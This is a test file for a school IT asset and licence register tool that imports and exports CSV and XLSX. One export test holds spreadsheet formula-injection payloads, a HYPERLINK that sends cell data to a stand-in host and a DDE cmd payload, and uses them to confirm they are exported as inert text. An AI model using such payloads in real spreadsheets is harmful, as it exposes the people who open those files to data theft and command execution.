import { execFile } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { parseCsvTable } from './cells.ts';
import { parseMapping } from './columns.ts';
import { readRegisterFile } from './index.ts';
import { formatRegisterProblem, parseTable } from './parse.ts';
import { toCsv, writeTable } from './write.ts';

const FIXTURES = resolve(import.meta.dirname, '../../test/fixtures/register');
const HEAD =
  'Asset Tag,Serial,Model,Kind,MAC Addresses,Hostname,Assignee,Location,Purchase Date,Warranty End,End of Support,Status,Last Seen,Disposal Date,Disposal Company,Disposal Certificate,WEEE Reference';

function assets(rows: string[], opts: Parameters<typeof parseTable>[2] = {}) {
  return parseTable(parseCsvTable([HEAD, ...rows].join('\n'), 'assets.csv'), 'assets', opts);
}
const messages = (p: { problems: Parameters<typeof formatRegisterProblem>[0][] }) =>
  p.problems.map(formatRegisterProblem);

describe('importing assets from CSV', () => {
  it('reads UK and ISO dates, normalises MACs and statuses, and keeps every column', () => {
    const r = assets([
      'A-1,S1,Latitude 5520,laptop,3c-52-82-1a-2b-01; 3C52821A2B09,STAFF-LT-01,Year 3 teacher,Class 3,15/08/2023,2027-08-14,31/10/2028,In use,01/11/2026,,,,',
    ]);
    expect(r.problems).toEqual([]);
    expect(r.records).toEqual([
      {
        assetTag: 'A-1',
        serial: 'S1',
        model: 'Latitude 5520',
        kind: 'laptop',
        mac: ['3C:52:82:1A:2B:01', '3C:52:82:1A:2B:09'],
        hostname: 'STAFF-LT-01',
        assignee: 'Year 3 teacher',
        location: 'Class 3',
        purchaseDate: '2023-08-15',
        warrantyEnd: '2027-08-14',
        endOfSupport: '2028-10-31',
        status: 'in-use',
        lastSeen: '2026-11-01',
      },
    ]);
    expect(r.rows).toEqual([2]);
  });

  it('names the file, row and column of a date that does not exist, and drops nothing silently', () => {
    const r = assets([
      'A-1,S1,M,laptop,,,,,01/09/2023,,,in-use,,,,,',
      'A-2,S2,M,laptop,,,,,31/02/2023,,,in-use,,,,,',
      'A-3,S3,M,laptop,,,,,09/13/2023,,,in-use,,,,,',
    ]);
    expect(r.records.map((a) => a.assetTag)).toEqual(['A-1']);
    expect(messages(r)).toEqual([
      'assets.csv:row 3: column "Purchase Date": "31/02/2023" is not a date; use dd/mm/yyyy or yyyy-mm-dd',
      'assets.csv:row 4: column "Purchase Date": "09/13/2023" is not a date: it looks like US month/day order; use dd/mm/yyyy or yyyy-mm-dd',
    ]);
  });

  it('requires the disposal date, company, certificate and WEEE reference on import', () => {
    const ok = 'D-1,S9,M,desktop,,,,,,,,disposed,,20/03/2025,Recycler Ltd,CERT-1,WEEE/1';
    const noCert = 'D-2,S10,M,desktop,,,,,,,,disposed,,20/03/2025,Recycler Ltd,,';
    const none = 'D-3,S11,M,desktop,,,,,,,,disposed,,,,,';
    const r = assets([ok, noCert, none]);
    expect(r.records.map((a) => a.assetTag)).toEqual(['D-1']);
    expect(r.records[0]?.disposal).toEqual({
      date: '2025-03-20',
      company: 'Recycler Ltd',
      certificate: 'CERT-1',
      weeeRef: 'WEEE/1',
    });
    expect(messages(r)).toEqual([
      'assets.csv:row 3: column "Disposal Certificate": a disposed item needs Disposal Date, Disposal Company, Disposal Certificate, WEEE Reference; this one is empty',
      'assets.csv:row 3: column "WEEE Reference": a disposed item needs Disposal Date, Disposal Company, Disposal Certificate, WEEE Reference; this one is empty',
      'assets.csv:row 4: column "Status": a disposed item needs Disposal Date, Disposal Company, Disposal Certificate, WEEE Reference; none is filled in',
    ]);
  });

  it('keeps an incomplete disposal record for the audit to report, with the missing parts empty', () => {
    const r = assets(['D-2,S10,M,desktop,,,,,,,,disposed,,20/03/2025,Recycler Ltd,,'], { disposal: 'keep' });
    expect(r.problems).toEqual([]);
    expect(r.records[0]?.disposal).toEqual({
      date: '2025-03-20',
      company: 'Recycler Ltd',
      certificate: '',
      weeeRef: '',
    });
  });

  it('refuses disposal details on equipment still in use, unknown statuses, bad MACs and repeated serials', () => {
    const r = assets([
      'A-1,S1,M,laptop,,,,,,,,in-use,,20/03/2025,Recycler Ltd,C,W',
      'A-2,S2,M,laptop,,,,,,,,broken,,,,,',
      'A-3,S3,M,laptop,00:11:22,,,,,,,in-use,,,,,',
      'A-4,S4,M,laptop,,,,,,,,spare,,,,,',
      'A-5,s4,M,laptop,,,,,,,,spare,,,,,',
    ]);
    expect(messages(r)).toEqual([
      'assets.csv:row 2: column "Status": disposal details are filled in but the status is in-use: set it to disposed or clear Disposal Date, Disposal Company, Disposal Certificate, WEEE Reference',
      'assets.csv:row 3: column "Status": "broken" is not a status: use in-use, spare or disposed',
      'assets.csv:row 4: column "MAC Addresses": "00:11:22" is not a MAC address',
      'assets.csv:row 6: column "Serial": "s4" is already on row 5',
    ]);
    expect(r.records.map((a) => a.assetTag)).toEqual(['A-4']);
  });

  it('reports a missing required column against the header, and a row with the wrong number of fields', () => {
    const noSerial = parseTable(
      parseCsvTable('Asset Tag,Model,Kind,Status\nA-1,M,laptop,in-use\n', 'a.csv'),
      'assets',
    );
    expect(messages(noSerial)).toEqual([
      'a.csv:row 1: column "Serial": required column is missing (the header has: Asset Tag, Model, Kind, Status); map it with serial=<your header>',
    ]);
    const short = assets(['A-1,S1,M,laptop,,,,,,,,in-use,,,,,', 'A-2,S2,M']);
    expect(messages(short)).toEqual(['assets.csv:row 3: expected 17 fields as in the header, found 3']);
  });

  it('counts rows by the spreadsheet, past blank lines and quoted line breaks', () => {
    const r = assets([
      '',
      'A-1,S1,"Latitude, 5520",laptop,,,,,,,,in-use,,,,,',
      '',
      'A-2,S2,M,laptop,,,,,31/02/2023,,,in-use,,,,,',
    ]);
    expect(r.rows).toEqual([3]);
    expect(r.problems[0]?.row).toBe(5);
  });
});

describe('importing from XLSX', () => {
  it('rejects a malformed workbook with the sheet and row of every problem', async () => {
    const r = await readRegisterFile(join(FIXTURES, 'assets-malformed.xlsx'), 'assets');
    expect(messages(r)).toEqual([
      'assets-malformed.xlsx:Sheet1:row 7: column "Purchase Date": "31/02/2023" is not a date; use dd/mm/yyyy or yyyy-mm-dd',
      'assets-malformed.xlsx:Sheet1:row 8: column "Status": "broken" is not a status: use in-use, spare or disposed',
      'assets-malformed.xlsx:Sheet1:row 9: column "MAC Addresses": "not-a-mac" is not a MAC address',
      'assets-malformed.xlsx:Sheet1:row 10: column "Serial": "SER-001" is already on row 2',
    ]);
    // The good rows are read, a real Excel date cell included, so the problems are all there is to fix.
    expect(r.records.map((a) => [a.assetTag, a.purchaseDate, a.status])).toEqual([
      ['T-001', '2023-09-01', 'in-use'],
      ['T-002', '2023-09-02', 'in-use'],
      ['T-003', '2023-09-03', 'spare'],
      ['T-004', undefined, 'spare'],
      ['T-005', '2023-09-05', 'in-use'],
    ]);
  });

  it('reads a school’s own headers through a column mapping and says which columns it did not import', async () => {
    const columns = parseMapping('assets', ['assetTag=Item No', 'serial=S/N', 'purchaseDate=Bought']);
    const r = await readRegisterFile(join(FIXTURES, 'assets-own-headers.xlsx'), 'assets', {
      columns,
      sheet: 'Register',
    });
    expect(r.problems).toEqual([]);
    expect(r.records[0]).toEqual({
      assetTag: 'K-01',
      serial: 'KSER-01',
      model: 'iPad (9th generation)',
      kind: 'tablet',
      purchaseDate: '2022-09-01',
      status: 'in-use',
    });
    expect(r.warnings).toEqual([
      'assets-own-headers.xlsx:Register: column "Notes" is not part of the assets register and was not imported',
    ]);
    expect(() => parseMapping('assets', ['colour=Colour'])).toThrow(/field of the assets table/);
  });

  it('names a missing worksheet and a file that is not a workbook', async () => {
    const a = await readRegisterFile(join(FIXTURES, 'assets-own-headers.xlsx'), 'assets', { sheet: 'Nope' });
    expect(messages(a)).toEqual(['assets-own-headers.xlsx:row 1: no worksheet "Nope" (it has Register)']);
    const dir = await mkdtemp(join(tmpdir(), 'register-'));
    await writeFile(join(dir, 'fake.xlsx'), 'Asset Tag,Serial\n');
    const b = await readRegisterFile(join(dir, 'fake.xlsx'), 'assets');
    expect(messages(b)[0]).toMatch(/^fake\.xlsx:row 1: not readable as an Excel workbook/);
  });
});

describe('licences, software and installation counts', () => {
  it('needs seats for per-device and per-user licences, not for site licences', () => {
    const t = parseCsvTable(
      'Title,Kind,Seats,Start,Expiry,Contract Ref\nOffice,Per device,,,,\nPurple Mash,Site licence,,01/09/2024,31/08/2027,PM-1\nAcrobat,subscription,5,,31/12/2026,\nX,rental,1,,,\n',
      'licences.csv',
    );
    const r = parseTable(t, 'licences');
    expect(messages(r)).toEqual([
      'licences.csv:row 2: column "Seats": a per-device licence needs the number of seats',
      'licences.csv:row 5: column "Kind": "rental" is not a licence kind: use per-device, per-user, site or subscription',
    ]);
    expect(r.records).toEqual([
      { title: 'Purple Mash', kind: 'site', start: '2024-09-01', expiry: '2027-08-31', contractRef: 'PM-1' },
      { title: 'Acrobat', kind: 'subscription', seats: 5, expiry: '2026-12-31' },
    ]);
  });

  it('reads the Intune "Discovered apps" export, adding up the versions of a title', () => {
    const t = parseCsvTable(
      'Application,Version,Device count\nMicrosoft Office,16.0.1,12\nMicrosoft Office,16.0.2,9\nGoogle Chrome,131,"1,204"\n',
      'installs.csv',
    );
    const r = parseTable(t, 'installs');
    expect(r.problems).toEqual([]);
    expect(r.warnings).toEqual([]);
    expect(r.records).toEqual([
      { title: 'Microsoft Office', installs: 21 },
      { title: 'Google Chrome', installs: 1204 },
    ]);
  });

  it('reads a per-device export (one row per device and title) and a plain Title,Installs file', () => {
    const perDevice = parseTable(
      parseCsvTable('Device name,Application\nPC-01,Office\nPC-02,Office\nPC-02,Scratch\n', 'i.csv'),
      'installs',
    );
    expect(perDevice.records).toEqual([
      { title: 'Office', installs: 2, devices: ['PC-01', 'PC-02'] },
      { title: 'Scratch', installs: 1, devices: ['PC-02'] },
    ]);
    const plain = parseTable(parseCsvTable('Title,Installs\nOffice,3\nScratch,many\n', 'i.csv'), 'installs');
    expect(messages(plain)).toEqual(['i.csv:row 3: column "Installs": "many" is not a whole number']);
    const neither = parseTable(parseCsvTable('Title,Publisher\nOffice,Microsoft\n', 'i.csv'), 'installs');
    expect(messages(neither)[0]).toMatch(/^i\.csv:row 1: column "Installs": needs an install count column/);
  });

  it('reads yes/no for whether a title needs a licence', () => {
    const r = parseTable(
      parseCsvTable('Title,Publisher,Licence Required\nChrome,Google,no\nOffice,,yes\nX,,maybe\n', 's.csv'),
      'software',
    );
    expect(r.records).toEqual([
      { title: 'Chrome', publisher: 'Google', licenceRequired: false },
      { title: 'Office', licenceRequired: true },
    ]);
    expect(messages(r)).toEqual(['s.csv:row 4: column "Licence Required": "maybe" is not yes or no']);
  });
});

describe('exporting', () => {
  it('round-trips every example register through CSV and XLSX unchanged', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'register-'));
    const schools = resolve(import.meta.dirname, '../schools');
    const files: [string, 'assets' | 'software' | 'licences' | 'installs'][] = [
      ['demo/assets.csv', 'assets'],
      ['demo/software.csv', 'software'],
      ['demo/licences.csv', 'licences'],
      ['demo/installs.csv', 'installs'],
      ['miskin-primary/installs.csv', 'installs'],
      ['scissett-middle/assets.xlsx', 'assets'],
    ];
    for (const [rel, name] of files) {
      const original = await readRegisterFile(join(schools, rel), name, { disposal: 'keep' });
      expect(original.problems, rel).toEqual([]);
      for (const ext of ['csv', 'xlsx']) {
        const out = join(dir, `${name}.${ext}`);
        await writeTable(out, name, original.records);
        const back = await readRegisterFile(out, name, { disposal: 'keep' });
        expect(back.problems, `${rel} -> ${ext}`).toEqual([]);
        expect(back.records, `${rel} -> ${ext}`).toEqual(original.records);
      }
    }
    // Dates go out in the UK order schools type them in.
    expect(toCsv('licences', [{ title: 'A', kind: 'site', expiry: '2027-08-31' }])).toBe(
      'Title,Kind,Seats,Start,Expiry,Contract Ref\nA,site,,,31/08/2027,\n',
    );
    expect((await readFile(join(dir, 'assets.csv'), 'utf8')).split('\n')[0]).toBe(
      'Asset Tag,Serial,Model,Kind,MAC Addresses,Hostname,Assignee,Location,Purchase Date,Warranty End,End of Support,Status,Last Seen,Disposal Date,Disposal Company,Disposal Certificate,WEEE Reference',
    );
  });

  it('formula cells typed into a register come out as text in the CSV export (read by Python’s csv module)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'register-formula-'));
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '@SUM(1+1)',
      '+cmd|"/c calc"!A0',
      '-2+3',
      '\uff1d1+1',
    ];
    const src = join(dir, 'in.csv');
    await writeFile(
      src,
      [
        HEAD,
        ...hostile.map(
          (h, i) =>
            `A-${i},S-${i},"${h.replace(/"/g, '""')}",laptop,,"${h.replace(/"/g, '""')}",,"${h.replace(/"/g, '""')}",,,,in-use,,,,,`,
        ),
      ].join('\n'),
    );
    const read = await readRegisterFile(src, 'assets');
    expect(read.problems).toEqual([]);
    expect(read.records.map((r) => r.model)).toEqual(hostile);
    const out = join(dir, 'out.csv');
    await writeTable(out, 'assets', read.records);
    // An independent reader: every cell a spreadsheet would evaluate is shown as text (a leading ').
    const { stdout } = await promisify(execFile)('python3', [
      '-c',
      'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="")))))',
      out,
    ]);
    const rows = JSON.parse(stdout) as string[][];
    const cells = rows.slice(1).flatMap((r) => [r[2], r[5], r[7]]);
    expect(cells).toHaveLength(hostile.length * 3);
    for (const c of cells) expect(c?.startsWith("'"), c).toBe(true);
    // And our own import undoes exactly that apostrophe: the register is unchanged by the round trip.
    expect((await readRegisterFile(out, 'assets')).records).toEqual(read.records);
  });

  it('a register path naming a file that is not a register: no line of it in any problem or warning', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'register-wrong-'));
    const file = join(dir, 'passwords.csv');
    await writeFile(file, 'hunter2-not-a-register,admin:s3cret-value\nsecond,line-of-it\n');
    for (const name of ['assets', 'software', 'licences', 'installs'] as const) {
      const r = await readRegisterFile(file, name);
      expect(r.records).toEqual([]);
      expect(r.problems.length).toBeGreaterThan(0);
      const text = JSON.stringify([r.problems.map(formatRegisterProblem), r.warnings]);
      expect(text).toMatch(/does not look like the \w+ register \(its content is not shown\)/);
      for (const secret of ['hunter2', 's3cret', 'line-of-it']) expect(text).not.toContain(secret);
    }
  });
});
